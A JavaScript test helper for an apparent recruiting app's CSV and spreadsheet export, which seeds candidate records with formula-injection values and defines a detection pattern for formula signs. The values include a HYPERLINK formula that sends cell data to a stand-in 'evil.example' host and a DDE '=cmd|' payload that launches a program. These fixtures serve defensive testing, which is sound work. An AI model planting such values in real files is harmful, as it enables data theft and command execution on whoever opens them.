// A pool whose cells try everything a spreadsheet could run or break on, built through the real
// wasm core (web/src/pool.js), and helpers that run the outside readers (readers.py, soffice).
import { execFileSync } from 'node:child_process';
import { mkdtempSync, readFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { openPool } from '../../web/src/pool.js';
import { memoryStorage } from '../../web/src/storage.js';

export const wasmBinary = readFileSync(fileURLToPath(new URL('../../build/wasm/runnerup-core.wasm', import.meta.url)));
export const NOW = new Date('2026-11-22T10:00:00Z');
// Debian's python (python3-icalendar lives there), not whatever python3 comes first on PATH.
export const PYTHON = process.env.RUNNERUP_PYTHON || '/usr/bin/python3';
const readers = fileURLToPath(new URL('./readers.py', import.meta.url));

/** Cells a spreadsheet would run as a formula, or that break naive CSV readers. */
export const NASTY = [
  '=1+1',
  '+SUM(A1)',
  '-2+3',
  '@cmd',
  '\t=1+2',
  '\r=1+3',
  '\n=1+4',
  "'=already quoted",
  "''+twice",
  ' =1+1',
  '   @SUM(A1)',
  '\u00a0-1',
  '\u3000+1',
  '＝1+1',
  '＋1',
  '－2+3',
  '＠SUM(A1)',
  ' ＝1+1',
  '+1',
  "' =1+1",
  '\tplain text after a tab',
  '\r\nafter a line break',
  'multi-line\r\nnote\n\n with a blank line and a trailing break\n',
  '=HYPERLINK("http://evil.example/?x="&A1,"click")',
  'Plain, with "quotes" and commas',
  'Zoë Ørsted 日本語 🙂',
  'multi-line note\nsecond line\r\n=third line runs?',
];

/** Single-line fields refuse control characters: the title gets the value without them. */
export const titleOf = (value) => value.replace(/[\t\r\n]+/g, ' ').trim();

/** The formula guard's rule (core/include/runnerup/csv.hpp): blanks, then a formula sign. */
const BLANKS = '[ \\u000b\\f\\u0085\\u00a0\\u1680\\u2000-\\u200b\\u2028\\u2029\\u202f\\u205f\\u3000\\ufeff]*';
const LEADS = '[=+\\-@\\t\\r\\n＝＋－＠]';
export const RUNNABLE = new RegExp(`^${BLANKS}${LEADS}`, 'u');
const LOOKS_GUARDED = new RegExp(`^'*${BLANKS}${LEADS}`, 'u');

/** One runner-up per nasty value: in the reason note (whole) and the title (one line). */
export async function nastyPool() {
  const pool = await openPool({ name: 'formats', actor: 'recruiter-1', storage: memoryStorage(), wasmBinary, sync: false, now: () => NOW });
  await pool.record({ type: 'saveRequisition', requisition: { id: 'r-1', title: '=cmd|" /C calc"!A0', status: 'filled' } });
  for (const [i, value] of NASTY.entries()) {
    const id = `c-${String(i).padStart(2, '0')}`;
    await pool.record({ type: 'saveCandidate', candidate: { id, name: `Person ${i} ${titleOf(value)}`, title: titleOf(value), emails: [`p${i}@example.com`], tags: ['=tag'] } });
    await pool.record({
      type: 'recordOutcome',
      outcome: {
        candidateId: id, requisitionId: 'r-1', stage: 'final', outcome: 'runner_up', rank: i + 1, reason: { code: 'other', note: value },
        futureFit: 'strong', note: value, scores: [{ by: titleOf(value), score: 'mixed' }, { by: 'Panel', score: 'yes' }], skillGaps: [titleOf(value), 'go'],
      },
      flags: { openToContract: true, futureRoles: { families: [titleOf(value)], departments: ['Platform'] } },
      followUp: { due: `2027-0${(i % 9) + 1}-15`, note: value },
    });
  }
  return pool;
}

/** What a cell must look like after export: formula-looking text gets one leading quote. */
export function neutralised(value) {
  return LOOKS_GUARDED.test(value) ? `'${value}` : value;
}

/** The native CLI (build/native), for what only it does. */
export const CLI = fileURLToPath(new URL('../../build/native/cli/runnerup', import.meta.url));

export function tempDir() {
  return mkdtempSync(join(tmpdir(), 'runnerup-formats-'));
}

export function read(kind, file) {
  return JSON.parse(execFileSync(PYTHON, [readers, kind, file], { encoding: 'utf8' }));
}

/** Runs LibreOffice headless with a private profile, so parallel runs do not collide. */
export function soffice(dir, args) {
  execFileSync('soffice', [`-env:UserInstallation=file://${join(dir, 'lo-profile')}`, '--headless', ...args, '--outdir', dir], {
    cwd: dir,
    stdio: ['ignore', 'pipe', 'pipe'],
    timeout: 120_000,
  });
}
